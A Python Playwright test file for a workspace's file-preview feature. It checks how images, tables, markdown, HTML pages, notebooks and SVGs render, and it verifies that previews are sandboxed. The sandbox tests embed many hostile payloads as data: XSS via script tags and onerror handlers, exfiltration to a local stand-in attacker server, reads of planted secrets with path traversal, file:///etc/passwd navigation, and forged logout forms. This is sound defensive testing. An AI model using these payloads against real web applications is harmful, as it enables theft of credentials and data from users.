"""Previews: what they show, that they follow the text, and that what a stranger made reaches nothing from its frame."""

import base64
import json
import threading
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.browser.conftest import Person

HOME = "/user/alice/files/home/alice"
ENDED_MS = 1500
"""What was started by then is over."""
pytestmark = pytest.mark.timeout(180)


class Elsewhere:
    """Another site, which counts who comes."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"elsewhere")

            do_POST = do_OPTIONS = do_GET  # noqa: N815 - as above

            def log_message(self, *_args: Any) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Close it."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """A site of an attacker's."""
    site = Elsewhere()
    yield site
    site.close()


def png(width: int = 4, height: int = 3) -> bytes:
    """A picture."""
    rows = b"".join(b"\0" + bytes([200, 60, 90]) * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4) + kind + data + zlib.crc32(kind + data).to_bytes(4)

    header = width.to_bytes(4) + height.to_bytes(4) + b"\x08\x02\0\0\0"
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def opens(person: Person, name: str, content: str | bytes) -> Page:
    """Open the preview of a file with this content."""
    person.writes(name, content)
    person.go(f"{HOME}/{name}?preview")
    return person.page


def frame_of(person: Person, text: str = "", *, seconds: float = 20.0) -> Frame:
    """The preview's frame, once it shows `text`."""

    def shown() -> Frame | None:
        for frame in person.page.main_frame.child_frames:
            try:
                if text in str(frame.evaluate("document.body?.innerText ?? ''")):
                    return frame
            except Exception:  # noqa: BLE001 - it is being replaced
                continue
        return None

    person.wait(shown, what=f"a frame with {text!r}", seconds=seconds)
    found = shown()
    assert found
    return found


@pytest.fixture
def asked_by_frames(alice: Person) -> list[str]:
    """Addresses that frames were answered at, those of previews excepted."""
    found: list[str] = []

    def note(request: Any) -> None:
        if request.frame != alice.page.main_frame and "/previews/" not in request.url:
            found.append(request.url)

    alice.page.context.on("requestfinished", note)
    return found


def is_unharmed(person: Person, url: str, elsewhere: Elsewhere, asked: list[str]) -> None:
    """The page is where it was, alone, signed in; and nobody was asked for anything by a frame."""
    page = person.page
    page.wait_for_timeout(ENDED_MS)
    assert [address for address in asked if address.startswith(("http", "ws", "file"))] == []
    assert page.url == url
    assert len(page.context.pages) == 1
    assert elsewhere.asked == []
    status = page.evaluate("fetch('/api/v0/user/alice/consoles/').then(answer => answer.status)")
    assert status == 200
    assert page.evaluate("localStorage.getItem('stolen')") is None


def test_a_picture_is_shown_larger_and_smaller(alice: Person) -> None:
    page = opens(alice, "pixel.png", png())
    picture = page.locator(".preview-picture")
    expect(picture).to_have_js_property("naturalWidth", 4)
    expect(page.locator(".preview-facts")).to_have_text("4 × 3 pixels")  # noqa: RUF001 - as people write it
    page.get_by_role("button", name="Larger").click()
    expect(page.locator(".preview-zoom")).to_have_text("150 %")
    page.locator(".preview-room").focus()
    for _ in range(5):
        page.keyboard.press("+")
    expect(picture).to_have_css("width", "32px")
    page.keyboard.press("0")
    expect(picture).to_have_css("width", "4px")
    alice.accessible()
    alice.fits()
    alice.shot("preview-picture")


def test_a_table_is_drawn_where_one_looks(alice: Person) -> None:
    rows = "".join(f'{number},"name {number}, the {number}th",{number / 7:.3f}\n' for number in range(50_000))
    page = opens(alice, "table.csv", f"id,name,share\n{rows}")
    expect(page.locator(".preview-facts")).to_have_text("50,000 rows, 3 columns.")
    expect(page.get_by_role("cell", name="name 3, the 3th")).to_be_visible()
    assert page.locator(".preview-row").count() < 100
    page.locator(".preview-table").evaluate("element => { element.scrollTop = element.scrollHeight }")
    expect(page.get_by_role("cell", name="name 49999, the 49999th")).to_be_visible()
    expect(page.get_by_role("columnheader", name="share")).to_be_visible()
    alice.accessible()
    alice.fits()
    page.locator(".preview-table").evaluate("element => { element.scrollTop = 0 }")
    alice.shot("preview-table")


README = (
    """# Growing things

Some *words* with `code`, a [link](https://example.com/), a [file](notes.md) and a [place](#watering).

![a picture](pixel.png)

| Plant | Water |
| --- | ---: |
| Fern | 3 |

```python
def water(plant: str) -> int:
    return len(plant)  # litres
```

<p align="center"><b>centred</b> <script>parent.document.title = "stolen"</script></p>
<img src="nothing.png" onerror="parent.document.title = 'stolen'"> [press](javascript:alert(1))

## Watering

"""
    + "A line.\n\n" * 80
)


def test_markdown_is_a_document_whose_links_lead_on(alice: Person) -> None:
    alice.writes("pixel.png", png(40, 30))
    page = opens(alice, "README.md", README)
    frame = frame_of(alice, "Growing things")
    expect(frame.locator("h1")).to_have_text("Growing things")
    expect(frame.locator("td").first).to_have_text("Fern")
    expect(frame.locator("img").first).to_have_js_property("naturalWidth", 40)
    expect(frame.locator(".tok-keyword").first).to_have_text("def")
    assert frame.locator("script, [onerror]").count() == 0
    assert "stolen" not in page.title()
    alice.accessible()
    alice.fits()
    alice.shot("preview-markdown")
    assert frame.get_by_role("link", name="press").count() == 0
    with page.context.expect_page() as opened:
        frame.get_by_role("link", name="link").click()
    assert opened.value.evaluate("window.opener") is None
    opened.value.close()
    frame.get_by_role("link", name="place").click()
    alice.wait(lambda: frame.evaluate("scrollY") > 0, what="the heading")
    frame.get_by_role("link", name="file").click()
    page.wait_for_url(f"**{HOME}/notes.md?edit")


def test_a_preview_follows_the_text_and_stays_where_one_reads(alice: Person) -> None:
    page = opens(alice, "long.md", README)
    frame = frame_of(alice, "Growing things")
    frame.evaluate("scrollTo(0, 900)")
    page.evaluate("text => window.terrarium.preview.update(text)", README.replace("Growing", "Watering many"))
    frame = frame_of(alice, "Watering many things")
    assert frame.evaluate("scrollY") == pytest.approx(900, abs=20)
    page.evaluate("document.documentElement.dataset.theme = 'dark'")
    alice.wait(lambda: frame.evaluate("document.documentElement.dataset.theme") == "dark", what="the dark")
    html = "<!doctype html><title>x</title><style>p { height: 200px }</style>" + "<p>one</p>" * 20
    page = opens(alice, "long.html", html)
    frame = frame_of(alice, "one")
    frame.evaluate("scrollTo(0, 900)")
    page.evaluate("text => window.terrarium.preview.update(text)", html.replace("one", "two"))
    frame = frame_of(alice, "two")
    alice.wait(lambda: frame.evaluate("scrollY") == 900, what="the place")
    assert page.locator("iframe").count() == 1


def test_a_page_has_its_folder_and_its_scripts_only_when_asked_for(alice: Person) -> None:
    alice.writes("site/look.css", "body { color: rgb(1, 2, 3) }")
    alice.writes("site/run.js", "document.querySelector('#out').textContent = 'ran ' + [typeof Map, 6 * 7]")
    alice.writes("site/data.json", '{"plant": "fern"}')
    alice.writes("site/img/pixel.png", png(40, 30))
    alice.writes("site/second.html", "<h1>The second page</h1>")
    text = """<!doctype html><meta charset="utf-8"><link rel="stylesheet" href="look.css">
<h1>Plants</h1><p id="out">nothing ran</p><p id="data"></p><img src="img/pixel.png" alt="">
<a href="second.html">on</a> <a href="https://example.com/out">out</a>
<script>fetch('data.json').then(r => r.json()).then(d => { document.querySelector('#data').textContent = d.plant })</script>
<script src="run.js"></script>"""
    page = opens(alice, "site/index.html", text)
    frame = frame_of(alice, "Plants")
    expect(frame.locator("h1")).to_have_css("color", "rgb(1, 2, 3)")
    expect(frame.locator("img")).to_have_js_property("naturalWidth", 40)
    expect(frame.locator("#out")).to_have_text("nothing ran")
    expect(page.locator(".preview-bar")).to_contain_text("The page has scripts, which do not run.")
    alice.accessible()
    alice.fits()
    alice.shot("preview-page")
    page.get_by_text("Run scripts").click()
    frame = frame_of(alice, "fern")
    expect(frame.locator("#out")).to_have_text("ran function,42")
    page.evaluate("text => window.terrarium.preview.update(text)", text.replace("Plants", "Trees"))
    expect(page.locator(".preview-bar")).to_contain_text("Changed since it was drawn.")
    page.get_by_role("button", name="Draw the page anew").click()
    frame = frame_of(alice, "Trees")
    expect(page.locator("iframe")).to_have_count(1)
    frame.get_by_role("link", name="out").click()
    expect(page.locator(".toast")).to_contain_text("The page leads to https://example.com/out")
    frame.get_by_role("link", name="on").click()
    frame_of(alice, "The second page")


ATTACKS = {
    "the parent's document": "parent.document.title = 'stolen'",
    "the parent's variables": "parent.terrarium.preview.update('stolen')",
    "the top's address": "top.location = ELSEWHERE + '/top'",
    "the top's history": "top.location.replace('/accounts/logout/')",
    "cookies": "document.cookie = 'a=b'; if (!document.cookie) throw new Error('none')",
    "storage": "localStorage.setItem('stolen', '1')",
    "a database": "indexedDB.open('x').name",
    "a window": "if (window.open(ELSEWHERE + '/window') === null) throw new Error('none')",
    "the opener": "opener.location = ELSEWHERE",
    "a worker of the site": "navigator.serviceWorker.register('sw.js')",
}
"""Each fails at once; each line of TRIES fails where nobody can see it."""
TRIES = [
    "fetch(OURS + '/api/v0/user/alice/consoles/', {credentials: 'include'}).then(() => parent.postMessage({kind: 'link', href: '/got'}, '*'), () => 0)",
    "fetch(OURS + '/api/v0/user/alice/consoles/run/', {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}).catch(() => 0)",
    "fetch(ELSEWHERE + '/fetch').catch(() => 0)",
    "navigator.sendBeacon(ELSEWHERE + '/beacon', 'x'); navigator.sendBeacon(OURS + '/api/v0/user/alice/beacon/', 'x')",
    "new Image().src = ELSEWHERE + '/image'; new Image().src = OURS + '/api/v0/user/alice/image/'",
    "try { new WebSocket(ELSEWHERE.replace('http', 'ws')) } catch {}; try { new WebSocket(OURS.replace('http', 'ws') + '/ws/consoles/1/') } catch {}",
    "try { new EventSource(ELSEWHERE + '/events') } catch {}",
    "for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'prerender', 'preconnect']) document.head.append(Object.assign(document.createElement('link'), {rel, as: 'image', href: ELSEWHERE + '/link'}))",
    "document.body.append(Object.assign(document.createElement('script'), {src: ELSEWHERE + '/script.js'}))",
    "for (const src of [ELSEWHERE + '/frame', OURS + '/user/alice/', 'about:blank#x']) document.body.append(Object.assign(document.createElement('iframe'), {src}))",
    "document.body.append(Object.assign(document.createElement('object'), {data: ELSEWHERE + '/object'}), Object.assign(document.createElement('embed'), {src: ELSEWHERE + '/embed'}))",
    "for (const action of [ELSEWHERE + '/form', OURS + '/api/v0/user/alice/consoles/', OURS + '/accounts/logout/']) for (const method of ['get', 'post']) for (const target of ['_top', '_parent', '_blank']) { const form = Object.assign(document.createElement('form'), {action, method, target}); document.body.append(form); form.submit() }",
    "import(ELSEWHERE + '/module.js').catch(() => 0)",
    "try { new Worker(ELSEWHERE + '/worker.js') } catch {}; new Worker(URL.createObjectURL(new Blob([`fetch('${ELSEWHERE}/inner').catch(() => 0); try { importScripts('${ELSEWHERE}/imported') } catch {}`])))",
    "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + new URL(ELSEWHERE).port}]}).createDataChannel('x')",
    "for (const target of ['_top', '_parent', '_blank']) { const link = Object.assign(document.createElement('a'), {href: ELSEWHERE + '/link-' + target, target}); document.body.append(link); link.click() }",
    "document.documentElement.requestFullscreen?.().catch(() => 0); navigator.clipboard?.readText().catch(() => 0)",
    "for (let n = 0; n < 300; n++) parent.postMessage({kind: 'link', href: 'https://example.com/' + n}, '*')",
    "for (const data of [null, 1, {kind: 'link'}, {kind: 'scrolled', x: NaN, y: -1}, {kind: 'shown'}, {kind: 'ready'}, {kind: 'fragment', html: 'x'}]) parent.postMessage(data, '*')",
]


def hostile(person: Person, elsewhere: Elsewhere, name: str, body: str) -> str:
    """Put a hostile page into a folder with secrets around it, open it with its scripts; return the address."""
    names = f"const ELSEWHERE = {json.dumps(elsewhere.url)}; const OURS = {json.dumps(person.url)};"
    body = body.replace("</script>", "<\\/script>")
    page = opens(person, f"evil/{name}", f"<!doctype html><body><p>evil</p><script>{names}{body}</script>")
    frame_of(person, "evil")
    url = page.url
    page.get_by_text("Run scripts").click()
    return url


def test_a_page_that_attacks_gets_nothing(alice: Person, elsewhere: Elsewhere, asked_by_frames: list[str]) -> None:
    alice.writes("evil/settings.py", "SECRET = 'treasure'")
    alice.writes("evil/.env", "SECRET=treasure")
    alice.writes("secret.json", '"treasure"')
    tried = "".join(
        f"try {{ {code}; found.push({json.dumps(name)}) }} catch (error) {{ refused.push({json.dumps(name)}) }}\n"
        for name, code in ATTACKS.items()
    )
    reads = "".join(
        f"fetch({json.dumps(path)}).then(r => r.text()).then(t => t.includes('treasure') && found.push('read')).catch(() => 0);\n"
        for path in ("settings.py", ".env", "../secret.json", "..%2fsecret.json", "/home/alice/secret.json")
    )
    body = (
        f"const found = [], refused = [];\n{tried}{reads}"
        + "\n".join(f"try {{ {code} }} catch (error) {{ refused.push(String(error)) }}" for code in TRIES)
        + "\nsetTimeout(() => document.body.append(' found: ' + JSON.stringify(found) + ' over'), 500)"
    )
    url = hostile(alice, elsewhere, "attacks.html", body)
    frame = frame_of(alice, "over")
    assert "found: [] over" in frame.evaluate("document.body.innerText")
    assert frame.evaluate("self.origin") == "null"
    assert alice.page.title().startswith("/home/alice/evil/attacks.html")
    assert alice.page.locator(".toast").count() <= 1
    is_unharmed(alice, url, elsewhere, asked_by_frames)


FORM = "const form = Object.assign(document.createElement('form'), {method: 'METHOD', action: TO}); document.body.append(form); form.submit()"


@pytest.mark.parametrize(
    "leading",
    [
        "location.href = ELSEWHERE + '/led?' + document.body.innerText",
        "location.href = OURS + '/api/v0/user/alice/consoles/'",
        "location.href = OURS + '/user/alice/'",
        "location.href = OURS + '/accounts/logout/'",
        "location.href = 'data:text/html,<script>parent.document.title = 1</script>'",
        "location.href = URL.createObjectURL(new Blob(['<script>fetch(`/api/v0/user/alice/consoles/`)</script>'], {type: 'text/html'}))",
        "location.href = 'javascript:parent.document.title = 1'",
        "location.href = 'file:///etc/passwd'",
        "location.href = 'settings.py'",
        FORM.replace("METHOD", "get").replace("TO", "ELSEWHERE + '/form'"),
        FORM.replace("METHOD", "post").replace("TO", "ELSEWHERE + '/form'"),
        FORM.replace("METHOD", "post").replace("TO", "OURS + '/accounts/logout/'"),
        FORM.replace("METHOD", "post").replace("TO", "OURS + '/api/v0/user/alice/consoles/'"),
    ],
)
def test_a_frame_cannot_lead_itself_out(
    alice: Person, elsewhere: Elsewhere, asked_by_frames: list[str], leading: str
) -> None:
    url = hostile(alice, elsewhere, "leads.html", f"setTimeout(() => {{ {leading} }}, 200)")
    is_unharmed(alice, url, elsewhere, asked_by_frames)


@pytest.mark.parametrize("name", ["quiet.html", "quiet.md", "quiet.ipynb"])
def test_what_is_hostile_without_scripts_reaches_nothing_either(
    alice: Person, elsewhere: Elsewhere, asked_by_frames: list[str], name: str
) -> None:
    there = elsewhere.url
    markup = f"""<p>evil</p><script>parent.document.title = 'stolen'; fetch('{there}/script')</script>
<img src="{there}/image"><img src=x onerror="parent.document.title = 'stolen'"><img src="{alice.url}/api/v0/user/alice/x">
<svg onload="parent.document.title = 'stolen'"><script>parent.document.title = 'stolen'</script></svg>
<style>@import "{there}/import"; p {{ background: url({there}/background) }} @font-face {{ font-family: x; src: url({there}/font) }}
p {{ font-family: x }}</style><link rel="stylesheet" href="{there}/css"><link rel="prefetch" href="{there}/prefetch">
<base href="{there}/"><base target="_top">
<iframe src="{there}/frame"></iframe><iframe srcdoc="<script>top.document.title = 1</script>"></iframe>
<object data="{there}/object"></object><embed src="{there}/embed"><video src="{there}/video" autoplay></video>
<form id="f" action="{alice.url}/accounts/logout/" method="post" target="_top"><button id="press">press</button></form>
<a id="top" href="{there}/link" target="_top">lead</a> <a id="js" href="javascript:parent.document.title=1">js</a>
<details open ontoggle="parent.document.title = 'stolen'"><summary>x</summary></details>
<input autofocus onfocus="parent.document.title = 'stolen'">"""
    content = markup
    if name.endswith("ipynb"):
        output = {"output_type": "display_data", "data": {"text/html": markup}, "metadata": {}}
        svg = {"output_type": "display_data", "data": {"image/svg+xml": markup}, "metadata": {}}
        cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1", "outputs": [output, svg]}
        text = {"cell_type": "markdown", "metadata": {}, "source": markup}
        content = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell, text]})
    page = opens(alice, f"evil/{name}", content)
    frame = frame_of(alice, "evil")
    url = page.url
    if frame.locator("#press").count():
        frame.locator("#press").first.click(no_wait_after=True)
    if frame.locator("#js").count():
        frame.locator("#js").first.click(no_wait_after=True)
    assert "stolen" not in page.title()
    is_unharmed(alice, url, elsewhere, asked_by_frames)


def test_a_page_cannot_lead_itself_out_without_scripts_either(
    alice: Person, elsewhere: Elsewhere, asked_by_frames: list[str]
) -> None:
    page = opens(alice, "evil/refresh.html", f'<meta http-equiv="refresh" content="0;url={elsewhere.url}/refresh">')
    is_unharmed(alice, page.url, elsewhere, asked_by_frames)
    page = opens(alice, "evil/refresh.html", '<meta http-equiv="refresh" content="0;url=/accounts/logout/">')
    is_unharmed(alice, page.url, elsewhere, asked_by_frames)


def test_a_drawing_is_only_a_picture(alice: Person, elsewhere: Elsewhere, asked_by_frames: list[str]) -> None:
    drawing = f"""<svg xmlns="http://www.w3.org/2000/svg" width="30" height="20" onload="top.document.title = 'stolen'">
<script>top.document.title = 'stolen'</script><image href="{elsewhere.url}/image" width="9" height="9"/>
<rect width="30" height="20" fill="green"/></svg>"""
    page = opens(alice, "evil/drawing.svg", drawing)
    expect(page.locator(".preview-picture")).to_have_js_property("naturalWidth", 30)
    assert "stolen" not in page.title()
    address = page.locator(".preview-picture").get_attribute("src")
    is_unharmed(alice, page.url, elsewhere, asked_by_frames)
    answer = page.goto(f"{alice.url}{address}")
    assert answer
    assert answer.status == 403


def test_an_address_is_no_page_and_is_not_written_down(alice: Person, product: Any) -> None:
    alice.writes("plain.html", "<h1>plain</h1>")
    granted = alice.api("POST", "previews/", data={"path": "/home/alice/plain.html", "scripts": True})
    answer = alice.page.goto(f"{alice.url}{granted['url']}")
    assert answer
    assert answer.status == 403
    assert "only shown within the workspace" in alice.page.inner_text("body")
    token = granted["url"].split("/")[2]
    logs = [path.read_text(errors="replace") for path in product.folder.rglob("*.log")]
    assert any('"/previews//plain.html"' in text for text in logs)
    assert not any(token in text for text in logs)


def notebook() -> str:
    """A notebook with one output of each kind."""
    table = "<style>td { color: rgb(1, 2, 3) }</style><table><tr><th>plant</th><td>fern</td></tr>"
    outputs: list[dict[str, Any]] = [
        {"output_type": "stream", "name": "stdout", "text": ["one\n", "\x1b[31mtwo\x1b[0m\n"]},
        {"output_type": "execute_result", "data": {"text/html": [table], "text/plain": "fern"}},
        {"output_type": "display_data", "data": {"image/png": base64.b64encode(png(40, 30)).decode()}},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[0;31mValueError\x1b[0m: dry"]},
    ]
    source = ["import math\n", "print(math.pi)"]
    code = {"cell_type": "code", "execution_count": 7, "source": source, "outputs": outputs}
    text = {"cell_type": "markdown", "source": "# Plants\n\nOf *all* kinds."}
    return json.dumps({"nbformat": 4, "metadata": {"kernelspec": {"language": "python"}}, "cells": [text, code, code]})


def test_a_notebook_is_read_with_what_its_cells_gave(alice: Person) -> None:
    page = opens(alice, "plants.ipynb", notebook())
    frame = frame_of(alice, "Plants")
    expect(page.locator(".preview-facts").first).to_have_text("3 cells.")
    expect(frame.locator("h1")).to_have_text("Plants")
    expect(frame.locator(".source .tok-keyword").first).to_have_text("import")
    expect(frame.locator("pre.output").first).to_have_text("one\ntwo\n")
    expect(frame.locator("td").first).to_have_css("color", "rgb(1, 2, 3)")
    expect(frame.locator(".output img").first).to_have_js_property("naturalWidth", 40)
    expect(frame.locator(".error").first).to_have_text("ValueError: dry")
    alice.accessible()
    alice.fits()
    alice.shot("preview-notebook")


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("paper.pdf", b"%PDF-1.4\n", "“paper.pdf” is a PDF"),
        ("broken.png", b"no picture", "“broken.png” cannot be shown"),
        ("large.csv", b"a,b\n" * 13_000_000, "“large.csv” cannot be shown"),
        ("odd.ipynb", b"{}", "This is not a notebook: it has no cells."),
    ],
)
def test_what_cannot_be_shown_is_said(alice: Person, name: str, content: bytes, sentence: str) -> None:
    page = opens(alice, name, content)
    if name.endswith("ipynb"):
        frame_of(alice, sentence)
        return
    expect(page.get_by_role("heading", name=sentence)).to_be_visible()
    expect(page.locator("#main").get_by_role("link", name="Download")).to_be_visible()
    alice.accessible()
    if name == "paper.pdf":
        alice.shot("preview-card")
